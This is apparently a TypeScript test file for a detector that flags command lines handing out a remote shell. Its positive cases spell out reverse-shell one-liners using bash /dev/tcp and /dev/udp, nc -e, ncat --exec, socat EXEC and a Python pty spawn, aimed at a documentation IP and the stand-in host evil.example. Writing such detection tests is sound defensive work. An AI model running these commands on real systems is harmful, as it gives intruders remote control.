/** Command lines that hand out a shell are told from those that only look alike. */

import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { isReverseShell } from "../../../nodes/windows/reverse-shell.ts";

function of(binary: string, given: string): boolean {
  return isReverseShell({ pid: 1, uid: 0, binary, arguments: given, containerId: "", image: "" });
}

describe("a command line that hands out a shell", () => {
  it("is told by what connects its streams", () => {
    assert.ok(of("/usr/bin/bash", '-c "bash -i >& /dev/tcp/198.51.100.7/9001 0>&1"'));
    assert.ok(of("/bin/sh", "-c sh -i 5<> /dev/udp/evil.example/53"));
    assert.ok(of("/usr/bin/nc", "-e /bin/sh 198.51.100.7 4444"));
    assert.ok(of("/bin/nc.traditional", "198.51.100.7 4444 -c bash"));
    assert.ok(of("/usr/bin/ncat", "--exec=/bin/bash 198.51.100.7 443"));
    assert.ok(of("/usr/bin/socat", "TCP:198.51.100.7:443 EXEC:/bin/bash,pty"));
    assert.ok(of("/usr/bin/python3.11", "-c import socket,os,pty;s=socket.socket();pty.spawn('sh')"));
  });

  it("is not what only looks a little like it", () => {
    assert.ok(!of("/usr/bin/bash", "-c echo up > /dev/null"));
    assert.ok(!of("/usr/bin/nc", "-z -w 1 db 5432"));
    assert.ok(!of("/usr/bin/nc", "-lk 8080"));
    assert.ok(!of("/usr/bin/python3", "-m http.server"));
    assert.ok(!of("/usr/bin/cat", "/dev/tcp/198.51.100.7/9001"));
    assert.ok(!of("", ""));
  });
});
